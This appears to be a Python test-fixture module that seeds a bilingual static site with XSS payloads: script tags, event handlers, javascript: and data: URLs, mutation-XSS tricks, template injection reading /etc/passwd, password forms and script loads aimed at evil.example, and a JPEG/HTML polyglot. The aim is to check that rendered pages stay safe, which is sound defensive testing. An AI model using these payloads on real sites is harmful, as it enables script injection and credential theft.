"""Texts that try to run a script, to load something from elsewhere, or to pose as a part of the page.

Each calls `pwned()`, or asks for an address of `EVIL`: a browser that does neither was not harmed.
"""

from collections.abc import Mapping

from tests.written import notice, picture, story, text

EVIL = "https://evil.example"
RUN = "pwned()"
_ENTITY = "&#106;&#x61;vascript&colon;"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script-case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script-src": f'<script src="{EVIL}/x.js"></script>',
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-unclosed": f"<script>{RUN}//",
    "script-slash": f"<script/x>{RUN}</script>",
    "script-in-code": f"`<script>{RUN}</script>` and\n\n```html\n<script>{RUN}</script>\n```",
    "script-in-note": f"A[^1]\n\n[^1]: <script>{RUN}</script>",
    "script-in-table": f"| a | b |\n|---|---|\n| <script>{RUN}</script> | <img src=x onerror={RUN}> |",
    "script-in-definition": f"Word\n:   <img src=x onerror={RUN}>",
    "fence-language": f'```"><img src=x onerror={RUN}>\nx\n```',
    "fence-attributes": f"```{{.x onclick={RUN} onmouseover={RUN}}}\nx\n```",
}
HANDLERS = {
    "img": f'<img src="x" onerror="{RUN}">',
    "img-bare": f"<img src=x onerror={RUN}//",
    "img-slash": f"<img/src=x/onerror={RUN}>",
    "img-backtick": f"<img src=`x` onerror={RUN}>",
    "img-newline": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "img-formfeed": f"<img\x0csrc=x\x0conerror={RUN}>".replace("\x0c", "&#12;"),
    "details": f"<details open ontoggle={RUN}><summary>a</summary></details>",
    "body": f"<body onload={RUN}><body onpageshow={RUN}>",
    "input": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}></select><textarea autofocus onfocus={RUN}></textarea>",
    "audio": f"<audio src=x onerror={RUN}></audio><video><source onerror={RUN}></video>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "animation": f"<p style='animation-name:x' onanimationstart={RUN}>x</p><style>@keyframes x{{}}</style>",
    "custom": f"<x-y tabindex=1 autofocus onfocus={RUN}>x</x-y>",
    "anchor": f'<a href="#" onclick="{RUN}" onmouseover={RUN} id=x>a</a>',
    "attribute-list": f'Paragraph\n{{: onclick={RUN} style=color:red #x .y }}\n\n# Heading {{: onmouseover={RUN} }}\n\n[a](/){{: onclick="{RUN}" target=_blank }}',
    "attribute-list-image": f"![a](anh.jpg){{: onload={RUN} onerror={RUN} srcset={EVIL}/x }}",
}
ADDRESSES = {
    "javascript": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) <javascript:{RUN}>",
    "javascript-entities": f"[a]({_ENTITY}{RUN}) <a href=\"{_ENTITY}{RUN}\">b</a> <a href='&#0000106avascript:{RUN}'>c</a>",
    "javascript-spaces": f'<a href=" javascript:{RUN}">a</a> <a href="java\tscript:{RUN}">b</a> <a href="java&#10;script:{RUN}">c</a> <a href="&#1;javascript:{RUN}">d</a>',
    "javascript-reference": f"[a][x]\n\n[x]: javascript:{RUN}",
    "javascript-percent": f"[a](javascript%3A{RUN}) [b](java%0ascript:{RUN})",
    "javascript-comment": f"[a](javascript://x%0a{RUN}) [b](vbscript:{RUN}) [c](view-source:javascript:{RUN})",
    "javascript-image": f"![a](javascript:{RUN}) [![a](anh.jpg)](javascript:{RUN})",
    "data": f"[a](data:text/html,<script>{RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+) ![c](data:image/svg+xml,<svg/onload={RUN}>)",
    "blob": "[a](blob:https://x/y) [b](filesystem:http://x/y) [c](file:///etc/passwd) [d](intent://x#Intent;end)",
    "quote-out": f'[a](http://x"onmouseover="{RUN}) [b](http://x \'"onclick="{RUN}\') ![c](x.jpg "\\"onerror={RUN} x=\\"")',
    "autolink": f'<http://x"onmouseover={RUN}> <a@b.c"onclick={RUN}> http://x/"><img src=x onerror={RUN}>',
    "nested-links": f'[a [b](javascript:{RUN})](http://x) [![x](y.jpg)](http://x"onclick="{RUN})',
    "protocol-relative": "[a](//evil.example/) [b](\\\\evil.example) [c](/\\evil.example)",
    "base": f'<base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}/"><link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/p>',
}
LOADS = {
    "image": f"![a]({EVIL}/x.png) <img src={EVIL}/y.png srcset='{EVIL}/z.png 2x'> <picture><source srcset={EVIL}/s.png></picture>",
    "frame": f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe><frame src={EVIL}><object data={EVIL}></object><embed src={EVIL}>",
    "style": f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/b.png)}}</style><p style='background:url({EVIL}/p.png)'>x</p>",
    "media": f"<video src={EVIL}/v poster={EVIL}/p.png autoplay></video><audio src={EVIL}/a autoplay></audio><track src={EVIL}/t>",
    "table-background": f"<table background={EVIL}/t.png><tr><td background={EVIL}/d.png>x</td></tr></table>",
    "form": f"<form action={EVIL}><input name=password><button formaction=javascript:{RUN}>Send</button></form><isindex action=javascript:{RUN}>",
    "ping": f"<a href=/ ping={EVIL}/ping>a</a> <a href=/ attributionsrc={EVIL}/a>b</a>",
    "video": f'https://www.youtube.com/watch?v=abc"onload="{RUN}',
}
MUTATIONS = {
    "svg": f"<svg onload={RUN}><script>{RUN}</script><a xlink:href=javascript:{RUN}><text>x</text></a><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg-foreign": f"<svg><foreignObject><body onload={RUN}><img src=x onerror={RUN}></foreignObject></svg>",
    "svg-use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'></svg>",
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></table></math>',
    "math-href": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><img src=x onerror={RUN}></template><template shadowrootmode=open><script>{RUN}</script></template>",
    "style-svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "form-math": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}></style></mglyph></form>",
    "comment": f"<!--><img src=x onerror={RUN}>--> <!--!><img src=x onerror={RUN}> <!-- --!><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]> <?xml <img src=x onerror={RUN}> ?> <!DOCTYPE x [<!ENTITY e '<img src=x onerror={RUN}>'>]>&e;",
    "title": f"<title><img src=x onerror={RUN}></title></title><img src=x onerror={RUN}>",
    "xmp": f"<xmp><img src=x onerror={RUN}></xmp></xmp><plaintext><noembed></noembed><img src=x onerror={RUN}>",
    "textarea": f"</textarea><img src=x onerror={RUN}><textarea></p><img src=x onerror={RUN}>",
    "attribute": f'<p title="&quot;><img src=x onerror={RUN}>">x</p> <p title=\'"><img src=x onerror={RUN}>\'>y</p> <abbr title="`><img src=x onerror={RUN}>">z</abbr>',
    "stored-mark": f"\\u0002x\\u0003 &#2;0&#3; \u2402 <a href='&#2;0&#3;'>a</a> <img src='&#2;0&#3;' alt='\"onerror={RUN}'>",
    "python-markdown-mark": f"klzzwxh:0000 wzxhzdk:0 \\<img src=x onerror={RUN}\\> <div markdown=1><img src=x onerror={RUN}></div>",
    "null": f"<img src=x o&#0;nerror={RUN}> <scr&#0;ipt>{RUN}</scr&#0;ipt>",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; &amp;lt;script&amp;gt;{RUN}",
    "widths": f"＜script＞{RUN}＜/script＞ ‹script›{RUN} \u2028<img src=x onerror={RUN}>\u2029",
    "template-language": f"{{{{ 7*7 }}}} {{% include '/etc/passwd' %}} ${{{RUN}}} #{{{RUN}}} {{{{ ''.__class__.__mro__ }}}}",
}
POSING = {
    "clobber": '<a id=site name=site></a><form name=getElementById></form><img name=querySelector id=documentElement><p id=main>x</p><p id="__proto__">y</p>',
    "slots": f'<p id=slogan data-slogans="{EVIL}/x.json" data-announcements="{EVIL}/y.json" class="slot" hidden>x</p><ul data-slot={EVIL}></ul>',
    "overlay": '<div class="layers" style="position:fixed;inset:0;z-index:9">Log in</div>',
    "bidi": "\u202eevil\u202c \u2066x\u2069 \u200b \ufeff",
    "roles": "<div role=alert aria-live=assertive contenteditable popover popovertarget=x>x</div><p slot=x part=y is=z>x</p>",
}
ATTACKS: Mapping[str, str] = {
    f"{kind}-{name}": body
    for kind, bodies in {"scripts": SCRIPTS, "handlers": HANDLERS, "addresses": ADDRESSES, "loads": LOADS, "mutations": MUTATIONS, "posing": POSING}.items()
    for name, body in bodies.items()
}
"""Bodies, by name."""
BREAK_OUT = f"\"'></title></script><img src=x onerror={RUN}><script>{RUN}</script>]]>--> {{{{7*7}}}}"
SHORT = f"\"'><img src=x onerror={RUN}><script>{RUN}</script>"
"""For every place that takes a short text."""


def quoted(value: str) -> str:
    """`value` as YAML that holds it whatever it is."""
    return "'" + value.replace("'", "''") + "'"


def hostile_site() -> Mapping[str, str | bytes]:
    """A site that builds and has every attack in it: in texts, in fields, in names of files, in registries."""
    head = quoted(BREAK_OUT)
    files: dict[str, str | bytes] = {
        "site/categories.yaml": f"- key: tin\n  vi: {head}\n  en: {head}\n",
        "site/bylines.yaml": f"- code: nv\n  vi: {head}\n  en: {head}\n",
        "site/menu.yaml": f"- section: news\n  vi: {head}\n  en: {head}\n- url: {quoted('https://union.example/?x=' + BREAK_OUT)}\n  vi: {head}\n  en: {head}\n",
        "site/imprint.yaml": f"vi:\n  governing_body: {head}\n  address: {head}\n  telephone: {head}\n  email: {head}\n  note: {head}\n",
        "site/glossary.yaml": f"- vi: {head}\n  en: {head}\n",
        "pages/trang.vi.md": text(head, "slug: gioi-thieu", body=BREAK_OUT),
        "announcements/2026/x/index.vi.md": notice(
            head, "2026-11-20", "slug: thong-bao-x", f"number: {quoted('12/TB-' + SHORT)}", "attachments:", f"  - file: {quoted('a <script>.pdf')}", f"    title: {head}", body=BREAK_OUT
        ),
        "announcements/2026/x/a <script>.pdf": b"%PDF-1.4\n<script>pwned()</script>",
        "announcements/2026/x/page.txt": f"<html><script>{RUN}</script>".encode(),
        "news/2026/fields/index.vi.md": story(
            head, "2026-11-20", "slug: truong", f"summary: {head}", "category: tin", "author: nv", f"tags: [{quoted(SHORT)}]", "image: anh.jpg", f"image_alt: {head}", body=BREAK_OUT
        ),
        "news/2026/fields/index.en.md": story(head, "2026-11-20", "slug: fields", f"author: {head}", f"tags: [{quoted(SHORT)}]", body=BREAK_OUT),
        "news/2026/fields/anh.jpg": polyglot(),
    }
    for number, (name, body) in enumerate(sorted(ATTACKS.items())):
        files[f"news/2026/{name}/index.vi.md"] = story(quoted(name), f"2026-10-{1 + number % 28:02}", f"slug: {name}", body=f"Đầu.\n\n{body}\n\nCuối cùng.")
        files[f"news/2026/{name}/anh.jpg"] = picture((number, 0, 0))
    return files


def polyglot() -> bytes:
    """A picture that is a page, too, to whoever guesses: the script stands in a comment of the JPEG and after its end."""
    data = picture()
    script = f"<html><script>{RUN}</script><!--".encode()
    return data[:2] + b"\xff\xfe" + (len(script) + 2).to_bytes(2, "big") + script + data[2:] + script


